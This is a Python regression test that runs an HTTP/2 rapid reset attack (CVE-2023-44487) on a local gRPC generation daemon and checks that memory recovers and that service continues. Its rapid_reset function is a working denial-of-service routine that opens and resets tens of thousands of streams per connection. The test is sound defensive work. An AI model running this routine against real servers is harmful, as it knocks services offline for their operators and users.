#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against the real `tierserve serve`:
clients open streams and reset them at once, tens of thousands per
connection, with Debian's python3-h2 speaking raw HTTP/2.

    rapid_reset_test.py BINARY

Debian's gRPC 1.51 queues every such stream's call state and works through
the queue after the attack; the daemon must then give the memory back (its
resident set returns near where it was) and keep serving. The peak while
the queue is worked off is printed, not asserted: it follows the attacker's
rate and this gRPC has no bound for it (see the README).
"""
import os
import socket
import sys
import threading
import time
import unittest

import h2.config
import h2.connection

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import daemon_test as dt  # noqa: E402

CONNECTIONS = 3
STREAMS_PER_CONNECTION = 20_000
# What the daemon may keep after the attack, above its size before it.
ALLOWED_GROWTH_BYTES = 150 << 20


def rapid_reset(port, streams):
    """Opens `streams` Generate streams on one connection, resetting each at once."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/tierserve.v1.Generation/Generate"),
               (":authority", "tierserve"), ("content-type", "application/grpc"), ("te", "trailers")]
    for i in range(streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers, end_stream=False)
        conn.reset_stream(sid)
        if i % 200 == 199:
            sock.sendall(conn.data_to_send())
    sock.sendall(conn.data_to_send())
    sock.close()


class RapidResetTest(unittest.TestCase):
    def test_memory_comes_back_and_the_daemon_serves(self):
        import grpc
        from tierserve.v1 import generation_pb2 as pb, generation_pb2_grpc as pb_grpc
        daemon = dt.Daemon()
        try:
            self.assertTrue(daemon.ready.wait(60), "".join(daemon.log))
            pid = daemon.proc.pid
            channel = grpc.insecure_channel(f"127.0.0.1:{daemon.port}")
            stub = pb_grpc.GenerationStub(channel)
            request = pb.GenerateRequest(model="tiny_llama", prompts=[pb.Prompt(text="hello")],
                                         parameters=pb.GenerationParameters(max_new_tokens=4, temperature=0.0))
            expected = stub.Generate(request, timeout=30).completions[0].text
            before = dt.vm_field(pid, "VmRSS")

            threads = [threading.Thread(target=rapid_reset, args=(daemon.port, STREAMS_PER_CONNECTION))
                       for _ in range(CONNECTIONS)]
            start = time.monotonic()
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            sent = time.monotonic() - start

            # The daemon answers while (or after) it works off the reset streams.
            self.assertEqual(stub.Generate(request, timeout=120).completions[0].text, expected)
            # Wait for the memory to come back: polled, up to two minutes.
            deadline = time.monotonic() + 120
            now = dt.vm_field(pid, "VmRSS")
            while now > before + ALLOWED_GROWTH_BYTES and time.monotonic() < deadline:
                time.sleep(0.5)
                now = dt.vm_field(pid, "VmRSS")
            settled = time.monotonic() - start
            print(f"\n{CONNECTIONS} x {STREAMS_PER_CONNECTION} reset streams sent in {sent:.1f} s; resident "
                  f"{before / 2**20:.0f} MiB before, peak {dt.vm_field(pid, 'VmHWM') / 2**20:.0f} MiB, "
                  f"{now / 2**20:.0f} MiB {settled:.1f} s after the attack began", file=sys.stderr)
            self.assertLessEqual(now, before + ALLOWED_GROWTH_BYTES,
                                 f"resident {now / 2**20:.0f} MiB, was {before / 2**20:.0f} MiB")
            self.assertEqual(stub.Generate(request, timeout=30).completions[0].text, expected)
            channel.close()
        finally:
            daemon.kill()


if __name__ == "__main__":
    dt.main()
